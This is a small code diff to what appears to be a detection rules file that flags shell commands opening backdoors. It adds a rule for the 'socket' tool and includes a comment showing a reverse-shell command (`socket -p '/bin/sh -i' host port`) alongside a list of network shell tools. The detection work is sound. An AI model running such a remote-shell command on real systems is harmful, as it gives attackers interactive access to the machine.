@@ -12,6 +12,11 @@ export const backdoorRules: readonly Rule[] = [
     check: ({ args }) => (args.some((arg) => STARTS_SHELL.test(arg)) ? backdoor : undefined),
   },
   { programs: ['socat'], check: socat },
+  // `socket -p '/bin/sh -i' host port`
+  {
+    programs: ['socket'],
+    check: ({ args }) => (args.some((arg) => /^-\w*p/.test(arg)) ? backdoor : undefined),
+  },
   {
     programs: ['nc', 'ncat', 'netcat', 'telnet', 'openssl', 'socat', 'curl', 'ssh'],
     check: shellIntoNetwork,
